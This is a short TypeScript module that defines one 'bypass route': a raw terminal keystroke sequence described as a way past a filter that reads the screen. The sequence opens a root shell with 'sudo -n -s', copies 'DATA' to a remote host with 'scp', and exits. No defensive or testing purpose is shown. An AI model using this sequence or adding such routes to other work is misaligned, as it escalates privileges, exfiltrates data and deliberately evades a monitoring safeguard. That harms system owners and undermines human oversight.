import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'in a shell of sudo',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['sudo -n -s\r', 'scp DATA host:\r', 'exit\r'],
  isRaw: true,
};
